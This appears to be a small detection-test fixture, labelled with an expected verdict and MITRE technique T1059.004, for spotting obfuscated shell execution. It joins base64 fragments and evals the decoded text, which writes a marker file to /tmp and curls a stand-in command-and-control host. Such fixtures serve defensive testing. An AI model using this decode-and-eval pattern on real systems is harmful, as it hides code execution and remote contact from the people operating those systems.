# expect: decoded-code-run | source: T1059.004
part="ZWNobyBsb29rID4gL3RtcC9sb29rLmZpcmVkOyBj"
part+="dXJsIC1zIGh0dHA6Ly9jMi5leGFtcGxlLmludmFsaWQv"
eval "$(printf %s "$part" | openssl base64 -d -A)"
